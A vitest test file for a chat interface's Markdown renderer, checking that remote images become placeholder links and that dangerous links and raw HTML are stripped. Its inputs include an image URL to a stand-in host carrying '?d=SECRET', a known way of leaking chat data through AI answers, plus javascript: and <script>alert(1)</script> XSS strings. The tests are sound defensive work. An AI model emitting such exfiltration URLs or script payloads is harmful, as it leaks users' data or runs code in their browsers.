import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { ImageHostsProvider } from "../../components/chat/image-hosts";
import { Markdown } from "../../components/chat/markdown";

/** An answer as the server renders it (the page's origin is not known there yet). */
function render(text: string, hosts: string[] = []): string {
  return renderToStaticMarkup(createElement(ImageHostsProvider, { hosts, children: createElement(Markdown, { text }) }));
}

describe("answers rendered as Markdown", () => {
  it("does not put a remote image's URL in an <img>: a placeholder link names its host", () => {
    const html = render("Look: ![the chart](https://evil.example/p.png?d=SECRET)");
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('href="https://evil.example/p.png?d=SECRET"');
    expect(html).toContain("Image from evil.example");
    expect(html).toContain("the chart");
    expect(html).toMatch(/<a [^>]*target="_blank"[^>]*rel="noopener noreferrer"/);
  });

  it("shows images from allowed hosts, relative paths and data: inline", () => {
    const html = render(
      "![a](https://images.example.com/a.png) ![b](/b.png) ![c](data:image/png;base64,iVBORw0KGgo=)",
      ["images.example.com"],
    );
    expect(html.match(/<img /g)).toHaveLength(3);
    expect(html).toContain('src="https://images.example.com/a.png"');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(html).toContain('referrerPolicy="no-referrer"');
  });

  it("renders javascript:, data: and vbscript: links as plain text", () => {
    const html = render("[one](javascript:alert(1)) [two](data:text/html,hi) [three](vbscript:x)");
    expect(html).not.toMatch(/<a[\s>]/);
    expect(html).not.toMatch(/javascript:|vbscript:|data:text/);
    for (const text of ["one", "two", "three"]) expect(html).toContain(text);
  });

  it("opens links in a new tab without opener or referrer and shows their host", () => {
    const html = render("Read [the guide](https://docs.example.test/guide).");
    expect(html).toMatch(/<a href="https:\/\/docs.example.test\/guide" target="_blank" rel="noopener noreferrer nofollow"/);
    expect(html).toMatch(/the guide<span[^>]*>docs\.example\.test<\/span><\/a>/);
    // An autolink needs no badge: its text is its address.
    expect(render("See https://docs.example.test/guide")).not.toMatch(/<span[^>]*>docs\.example\.test<\/span>/);
  });

  it("an image inside a link does not become a second link", () => {
    const html = render("[![logo](https://evil.example/l.png)](https://example.com)");
    expect(html.match(/<a[\s>]/g)).toHaveLength(1);
    expect(html).toContain("Image from evil.example, not loaded");
  });

  it("keeps footnotes, code and raw-HTML stripping as before", () => {
    const html = render('Fact[^1] and `x[1]`\n\n<img src="https://evil.example/x.png">\n\n<script>alert(1)</script>\n\n[^1]: Source.');
    expect(html).toMatch(/<a href="#user-content-fn-1" id="user-content-fnref-1"/);
    expect(html).not.toContain("<script");
    expect(html).not.toContain("<img");
    expect(html).toContain("<code>x[1]</code>");
  });
});
